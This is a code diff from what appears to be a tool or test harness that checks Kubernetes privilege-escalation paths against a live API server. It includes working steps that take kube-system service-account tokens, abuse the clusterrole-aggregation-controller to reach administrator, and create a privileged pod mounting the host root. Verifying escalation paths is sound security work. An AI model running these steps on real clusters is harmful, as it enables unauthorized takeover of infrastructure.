@@ -138,7 +138,10 @@ function pathsOf(manifests: readonly any[], namespace: string, to: string): read
 
 /** Where a walk has got to. */
 interface State {
+  /** Whom it asks as. */
   readonly attacker: Attacker;
+  /** The account that the walk begins with, whatever tokens it gets. */
+  readonly self: Attacker;
   readonly namespace: string;
   /** The account that the path goes on as. */
   readonly next: string | undefined;
@@ -181,7 +184,8 @@ const STEPS: { readonly [edge: string]: (state: State, step: PathStep) => Promis
     return status === 201 ? state : undefined;
   },
   'create-service-account-tokens': async state => withToken(state, await tokenOf(state.attacker.credentials, 'kube-system', 'clusterrole-aggregation-controller')),
-  'system-account': async state => await becomesAdministrator(state.attacker, state.attacker.credentials.token) ? state : undefined,
+  // The controller gives permissions, which it does not have itself, to a role that the account is bound to.
+  'system-account': async state => await becomesAdministrator(state.self, state.attacker.credentials.token) ? { ...state, attacker: state.self } : undefined,
   'modify-namespaces': async state => {
     const path = `/api/v1/namespaces/${state.namespace}`;
     const spec = { hostPID: true, containers: [{ name: 'app', image: 'x', securityContext: { privileged: true } }], volumes: [{ name: 'root', hostPath: { path: '/' } }] };
@@ -219,8 +223,8 @@ async function writesToken(state: State, name: string, write: (name: string) => 
 
 /** Whether the account gets to the end of a path, as the server answers. */
 async function walk({ steps, target }: EscalationPath, namespace: string): Promise<boolean> {
-  const token = await tokenOf({}, namespace, 'attacker');
-  let state: State | undefined = { attacker: Attacker.holding(token!, 'attacker', namespace), namespace, next: undefined };
+  const self = Attacker.holding((await tokenOf({}, namespace, 'attacker'))!, 'attacker', namespace);
+  let state: State | undefined = { attacker: self, self, namespace, next: undefined };
   for (const [index, step] of steps.entries()) {
     const next: string | undefined = steps.slice(index).find(({ to }) => to.kind === 'account')?.to.name;
     state = await STEPS[step.edge]({ ...state, next }, step);
